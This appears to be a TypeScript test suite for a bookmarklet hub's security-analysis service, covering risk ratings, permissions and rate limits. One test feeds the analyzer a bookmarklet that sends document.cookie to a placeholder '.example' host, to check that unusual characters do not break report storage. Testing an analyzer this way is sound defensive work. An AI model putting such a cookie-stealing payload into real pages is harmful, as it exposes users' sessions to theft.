import { analyzeVersion } from "@scriptorium/hub-data/security/analyze-version";
import { listVersionRisks } from "@scriptorium/hub-data/security/list-version-risks";
import { readSecurityReport } from "@scriptorium/hub-data/security/read-security-report";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { reportsOf, samples } from "../support/analysis.ts";
import { forgetRates, newcomer, openFixture, type Person } from "../support/fixture.ts";
import { save } from "../support/save.ts";

const fixture = openFixture();
let author: Person & { id: string };
beforeAll(async () => {
	author = await newcomer(fixture, "Rosa Rated");
});
afterAll(() => fixture.close());

const functionUrl = `${fixture.backend.url}/functions/v1/analyze-security`;
const ask = (body: unknown, headers: Record<string, string> = {}) =>
	fetch(functionUrl, { method: "POST", body: JSON.stringify(body), headers });

describe("rating a saved version", () => {
	test("goes from 'analyzing' to a report that sets version and script, and ends the job", async () => {
		const saved = await save(author, { p_code: samples.harmless });
		const key = { versionId: saved.version_id };
		expect(await readSecurityReport(author.hub, key)).toEqual({ ok: true, value: { state: "analyzing" } });

		const analyzed = await analyzeVersion(author.hub, key);
		if (!analyzed.ok) throw new Error(analyzed.error.message);
		const { risk_level, score, rules_version } = analyzed.value;
		expect(risk_level).toBe("green");
		expect(await readSecurityReport(fixture.people.anon.hub, key)).toMatchObject({
			ok: true,
			value: { state: "rated", risk_level, score, rules_version, analysis: analyzed.value },
		});

		const [row] = await fixture.sql`
			select version.risk_level, version.capabilities, script.risk_level as script_risk, script.security_score as score,
				script.security_analysis as analysis, script.last_security_scan is not null as scanned, job.state, job.error
			from public.versions as version join public.bookmarklets as script on script.latest_version_id = version.id
			join public.analysis_jobs as job on job.version_id = version.id where version.id = ${saved.version_id}`;
		expect(row).toEqual({
			risk_level,
			capabilities: analyzed.value.capabilities,
			script_risk: risk_level,
			score,
			analysis: analyzed.value,
			scanned: true,
			state: "done",
			error: null,
		});
		expect(JSON.stringify(row?.analysis)).not.toContain("pink");
	});

	test("a second request is answered from the report, also when many are concurrent", async () => {
		const saved = await save(author, { p_code: samples.harmless });
		const asked = Array.from({ length: 8 }, () => analyzeVersion(author.hub, { versionId: saved.version_id }));
		const answers = new Set((await Promise.all(asked)).map((answer) => JSON.stringify(answer)));
		expect(answers.size).toBe(1);
		expect(await reportsOf(fixture, saved.version_id)).toHaveLength(1);
	});

	test("code that cannot be parsed is stored as unrated, with the reason, and never green", async () => {
		const saved = await save(author, { p_code: samples.unreadable });
		const analyzed = await analyzeVersion(author.hub, { versionId: saved.version_id });
		expect(analyzed).toMatchObject({ ok: true, value: { risk_level: "unrated", score: 0 } });
		expect(await reportsOf(fixture, saved.version_id)).toMatchObject([{ risk_level: "unrated", score: 0 }]);
		const read = await readSecurityReport(author.hub, { versionId: saved.version_id });
		expect(read).toMatchObject({ ok: true, value: { state: "rated", risk_level: "unrated" } });
	});

	test("characters that jsonb refuses in a script's strings do not prevent its report from being stored", async () => {
		// NUL and half a surrogate pair: PostgreSQL's jsonb takes neither.
		const address = "https://e\\x00\\ud800.example/\\ud800?c=";
		const saved = await save(author, { p_code: `javascript:void fetch("${address}"+document.cookie)` });
		expect(await analyzeVersion(author.hub, { versionId: saved.version_id })).toMatchObject({ ok: true });
		expect(await reportsOf(fixture, saved.version_id)).toHaveLength(1);
	});

	test("the older version keeps its rating, and a new save is unrated until it was analyzed", async () => {
		const first = await save(author, { p_code: samples.harmless });
		await analyzeVersion(author.hub, { versionId: first.version_id });
		const second = await save(author, {
			p_id: first.id,
			p_base_version_id: first.version_id,
			p_code: samples.unreadable,
		});
		const levels = async () => {
			const listed = await listVersionRisks(fixture.people.anon.hub, { scriptId: first.id });
			if (!listed.ok) throw new Error(listed.error.message);
			return listed.value.map(({ semver, rating }) => [semver, rating.state === "rated" ? rating.risk_level : "…"]);
		};
		expect(await levels()).toEqual([
			["1.1.0", "…"],
			["1.0.0", "green"],
		]);
		const { data } = await author.hub.from("bookmarklets").select("risk_level").eq("id", first.id).single();
		expect(data).toEqual({ risk_level: "unrated" });

		await analyzeVersion(author.hub, { versionId: second.version_id });
		expect(await levels()).toEqual([
			["1.1.0", "unrated"],
			["1.0.0", "green"],
		]);
		// Conversely, a late report on the old version does not change the script's rating.
		await fixture.sql`
			insert into public.security_reports (version_id, risk_level, score, summary_json, rules_version)
			values (${first.version_id}, 'red', 1, '{}', 'later')`;
		const after = await author.hub.from("bookmarklets").select("risk_level").eq("id", first.id).single();
		expect(after.data).toEqual({ risk_level: "unrated" });
		expect(await levels()).toEqual([
			["1.1.0", "unrated"],
			["1.0.0", "red"],
		]);
	});

	test("the level of a report in an unknown format is still available", async () => {
		const saved = await save(author);
		await fixture.sql`
			insert into public.security_reports (version_id, risk_level, score, summary_json, rules_version)
			values (${saved.version_id}, 'amber', 50, '{"summary":"of old"}', 'old')`;
		expect(await readSecurityReport(author.hub, { versionId: saved.version_id })).toMatchObject({
			ok: true,
			value: { state: "rated", risk_level: "amber", analysis: null },
		});
	});
});

describe("who may request an analysis", () => {
	test("everybody who can read the version; for a draft only its owner", async () => {
		const draft = await save(author, { p_publish: false, p_code: samples.harmless });
		const key = { versionId: draft.version_id };
		for (const person of [fixture.people.anon, fixture.people.other, fixture.people.moderator]) {
			expect(await analyzeVersion(person.hub, key)).toMatchObject({ ok: false, error: { code: "NOT_FOUND" } });
			expect(await readSecurityReport(person.hub, key)).toEqual({ ok: true, value: null });
		}
		expect(await reportsOf(fixture, draft.version_id)).toEqual([]);
		expect(await analyzeVersion(author.hub, key)).toMatchObject({ ok: true });

		const open = await save(author, { p_code: samples.harmless });
		expect(await analyzeVersion(fixture.people.anon.hub, { versionId: open.version_id })).toMatchObject({ ok: true });
		const forged = await ask({ version_id: open.version_id }, { Authorization: "Bearer a.b.c" });
		expect(forged.status).toBe(401);
	});

	test("a limited number of times: each person and network has a bucket", async () => {
		const person = await newcomer(fixture);
		await fixture.sql`
			insert into private.rate_buckets (subject, action, tokens, updated_at)
			values (${`user:${person.id}`}, 'analyze_security', 0, now() + interval '1 hour'),
				('address:203.0.113.0/24', 'analyze_security', 0, now() + interval '1 hour')`;
		const saved = await save(author, { p_code: samples.harmless });
		const refused = await analyzeVersion(person.hub, { versionId: saved.version_id });
		expect(refused).toMatchObject({ ok: false, error: { code: "RATE_LIMITED" } });
		if (refused.ok) throw new Error("not refused");
		expect(JSON.parse(refused.error.details ?? "")).toMatchObject({ action: "analyze_security" });
		const from = (address: string) => ask({ code: samples.harmless }, { "x-forwarded-for": address });
		expect((await from("203.0.113.9")).status).toBe(429);
		expect((await from("203.0.113.9, 198.51.100.1")).status).toBe(200);
		await forgetRates(fixture);
	});

	test("clients can write neither report nor risk", async () => {
		const saved = await save(author, { p_code: samples.harmless });
		const row = { version_id: saved.version_id, risk_level: "green", score: 100, summary_json: {}, rules_version: "x" };
		const recording = { p_version_id: saved.version_id, p_risk_level: "green", p_score: 100, p_summary: {} };
		for (const person of Object.values(fixture.people)) {
			const attempts = [
				await person.hub.from("security_reports").insert(row),
				await person.hub.from("versions").update({ risk_level: "green" }).eq("id", saved.version_id),
				await person.hub.from("bookmarklets").update({ risk_level: "green" }).eq("id", saved.id),
				await person.hub.rpc("record_analysis", { ...recording, p_rules_version: "x" }),
				await person.hub.rpc("claim_analysis_job", { p_rules_version: "x" }),
				await person.hub.rpc("begin_analysis", { p_rules_version: "x", p_headers: {} }),
			];
			expect(attempts.map(({ error }) => error?.code)).toEqual(attempts.map(() => "42501"));
		}
		expect(await reportsOf(fixture, saved.version_id)).toEqual([]);
	});
});
